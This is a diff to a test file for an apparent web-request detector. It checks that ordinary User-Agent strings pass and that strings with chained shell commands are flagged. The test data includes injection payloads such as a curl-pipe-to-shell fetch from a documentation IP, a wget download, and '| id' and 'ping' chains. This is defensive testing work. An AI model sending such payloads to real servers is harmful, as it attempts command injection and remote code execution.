@@ -279,6 +279,7 @@ describe('rule families', () => {
     'serpstatbot/1.0 (advanced backlink tracking bot; curl/7.58.0; http://serpstatbot.com/; abuse@serpstatbot.com)',
     'Mozilla/5.0 (compatible; Uptime/1.0; http://uptime.com)',
     'python-httpx/0.27.0',
+    'Composer/2.6.6 (Linux; 5.15.0-91-generic; PHP 8.3.0; cURL 7.81.0; Platform-PHP 8.3.0; CI)',
   ])('leaves the User-Agent %s alone: command names as its tokens, an ordinary client', (userAgent) => {
     expect(scorer.score('/products/usb-c-cable', userAgent, undefined)).toBeUndefined();
   });
@@ -287,6 +288,7 @@ describe('rule families', () => {
     'Mozilla/5.0; curl http://203.0.113.5/x.sh | sh',
     'Mozilla/5.0 | id',
     'x; wget -qO- http://203.0.113.5/a',
+    'x; ping 10.0.0.1',
   ])('takes a command chained in the User-Agent %s', (userAgent) => {
     expect(scorer.score('/', userAgent, undefined)?.reasons.map((r) => r.detector)).toContain('rce-command-chain-ua');
   });
